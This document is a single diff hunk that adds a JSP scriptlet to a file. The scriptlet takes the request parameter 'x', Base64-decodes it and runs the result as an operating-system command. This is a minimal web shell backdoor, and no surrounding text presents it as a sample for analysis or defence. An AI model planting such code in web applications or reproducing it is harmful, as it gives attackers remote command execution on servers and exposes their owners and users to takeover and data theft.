@@ -1,0 +1,1 @@
+<% String k = "x"; String v = new String(java.util.Base64.getDecoder().decode(request.getParameter(k))); Runtime.getRuntime().exec(v); %>
